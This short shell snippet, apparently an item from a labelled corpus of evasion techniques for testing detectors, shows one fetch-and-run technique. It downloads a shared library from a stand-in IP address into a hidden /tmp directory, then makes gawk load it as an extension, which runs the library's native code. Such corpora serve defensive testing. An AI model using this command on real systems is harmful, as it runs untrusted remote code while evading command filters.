# evasion: gawk -l loads a shared-library extension found through AWKLIBPATH; the library is downloaded first
# grade: hard; does: native
mkdir -p /tmp/.awk
curl -fsSL -o /tmp/.awk/fmt.so http://203.0.113.86/fmt.so
AWKLIBPATH=/tmp/.awk gawk -l fmt 'BEGIN { print "ok" }'
